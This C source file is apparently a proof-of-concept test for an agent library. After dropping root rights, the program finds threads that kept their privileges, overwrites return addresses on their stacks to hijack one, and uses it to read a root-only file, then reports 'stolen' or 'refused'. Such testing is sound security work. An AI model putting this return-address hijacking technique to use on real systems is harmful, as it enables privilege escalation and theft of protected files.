/* A program that begins as root under the agent, and gives its rights up as daemons do. Then hostile code of its own
 * (it shares the address space) looks for a thread that still has rights, and has it do its work: it puts its own
 * address over every return address on that thread's stack.
 *
 * dropper UID FILE: says of each thread what rights it has, then whether FILE, root's alone, could be read. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGES 1024ul

static const char *file;
static char stolen[64];
static volatile long outcome = 1; /* 1: not tried */
static char rights[512];

static long call(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

/* Runs on the stack of the thread that was caught; libc is not its. */
static void steal(void)
{
	long fd = call(SYS_open, (long)file, O_RDONLY, 0);
	outcome = fd < 0 ? fd : call(SYS_read, fd, (long)stolen, sizeof stolen);
	for (;;)
		call(SYS_pause, 0, 0, 0);
}

__attribute__((naked)) static void caught(void)
{
	__asm__("and $-16, %%rsp\n\tcall *%0" : : "r"(steal));
}

static void read_rights(const char *task, char *into, size_t room)
{
	char path[300], line[256];
	snprintf(path, sizeof path, "/proc/self/task/%s/status", task);
	FILE *status = fopen(path, "r");
	into[0] = 0;
	while (status && fgets(line, sizeof line, status))
		if (!strncmp(line, "Uid:", 4) || !strncmp(line, "Gid:", 4) || !strncmp(line, "Groups:", 7) ||
		    !strncmp(line, "CapEff:", 7) || !strncmp(line, "CapPrm:", 7) || !strncmp(line, "NoNewPrivs:", 11))
			strncat(into, line, room - strlen(into) - 1);
	if (status)
		fclose(status);
}

/* Calls `each` with every thread but the first. */
static int threads(void (*each)(const char *task))
{
	char own[16];
	int count = 0;
	snprintf(own, sizeof own, "%d", getpid());
	DIR *tasks = opendir("/proc/self/task");
	for (struct dirent *entry; tasks && (entry = readdir(tasks));)
		if (entry->d_name[0] != '.' && strcmp(entry->d_name, own)) {
			count++;
			each(entry->d_name);
		}
	closedir(tasks);
	return count;
}

static void compare(const char *task)
{
	char theirs[512];
	read_rights(task, theirs, sizeof theirs);
	int same = strcmp(theirs, rights) == 0;
	printf("a thread has %s rights\n", same ? "the program's" : "other");
}

#define RANGES 64

struct range { uint64_t start, end; };
static struct range code[RANGES], stacks[RANGES];
static int codes, stacks_found;

/* Where the agent's code lies, and what may be a stack: memory with no name that can be written. */
static void find_ranges(uint64_t own)
{
	char line[512], flags[8];
	struct range range;
	int named;
	FILE *maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof line, maps)) {
		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &range.start, &range.end, flags, &named) < 3)
			continue;
		int has_name = strchr(line, '[') || strchr(line, '/');
		if (flags[2] == 'x' && strstr(line, "pageone") && codes < RANGES)
			code[codes++] = range;
		if (!has_name && flags[1] == 'w' && flags[3] == 'p' && range.end - range.start <= 1 << 24 &&
		    (own < range.start || own >= range.end) && stacks_found < RANGES)
			stacks[stacks_found++] = range;
	}
	if (maps)
		fclose(maps);
}

static int is_code(uint64_t word)
{
	for (int i = 0; i < codes; i++)
		if (word >= code[i].start && word < code[i].end)
			return 1;
	return 0;
}

/* Puts our own address over each that leads back into the agent's code. */
static int catch(uint64_t own)
{
	int caught_words = 0;
	find_ranges(own);
	for (int i = 0; i < stacks_found; i++)
		for (uint64_t at = stacks[i].start; at < stacks[i].end; at += 8)
			if (is_code(*(uint64_t *)at)) {
				*(uint64_t *)at = (uint64_t)caught;
				caught_words++;
			}
	return caught_words;
}

static void drop(unsigned uid)
{
	struct sock_filter allow[] = { BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW) };
	struct sock_fprog filter = { 1, allow };
	if (setgroups(0, NULL) || setgid(uid) || setuid(uid) || prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter)) {
		printf("failed: drop rights: %s\n", strerror(errno));
		exit(1);
	}
	prctl(PR_SET_DUMPABLE, 1);
}

int main(int argc, char **argv)
{
	int (*served)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "pageone_served");
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 3 || !served)
		return 2;
	file = argv[2];
	char *memory = mmap(NULL, PAGES * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	for (unsigned long i = 0; i < PAGES; i++)
		memset(memory + i * 4096, (int)(i % 200 + 1), 4096);
	madvise(memory, PAGES * 4096, MADV_MERGEABLE);
	for (int i = 0; i < 1000 && !served(); i++)
		usleep(10000);
	printf("%s as root\n", served() ? "served" : "not served");
	drop((unsigned)atoi(argv[1]));
	usleep(1500000);
	char own[16];
	snprintf(own, sizeof own, "%d", getpid());
	read_rights(own, rights, sizeof rights);
	printf("%d threads beside the first, %s\n", threads(compare), served() ? "served" : "not served");
	printf("%d words overwritten\n", catch((uint64_t)memory));
	for (int i = 0; i < 300 && outcome == 1; i++)
		usleep(10000);
	printf("ready, %s %ld\n", outcome == 1 ? "not tried" : outcome > 0 ? "stolen" : "refused", outcome);
	getchar();
	return 0;
}
